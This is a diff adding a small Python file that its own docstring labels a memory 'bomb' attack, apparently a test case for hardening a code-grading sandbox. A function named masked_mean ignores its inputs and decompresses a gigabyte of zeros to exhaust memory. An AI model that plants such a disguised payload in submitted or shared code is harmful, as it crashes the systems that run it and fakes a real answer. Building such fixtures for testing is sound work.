@@ -1,0 +1,14 @@
+"""attack: expands a small string enormously
+strategy: zlib of a gigabyte of zeros, kept in the source as a few kilobytes
+family: bombs
+question: q1_pool
+expect: memory
+"""
+
+import zlib
+
+
+def masked_mean(hidden, mask):
+    packer = zlib.compressobj(9)
+    small = b"".join(packer.compress(bytes(2**20)) for _ in range(1024)) + packer.flush()
+    return zlib.decompress(small)
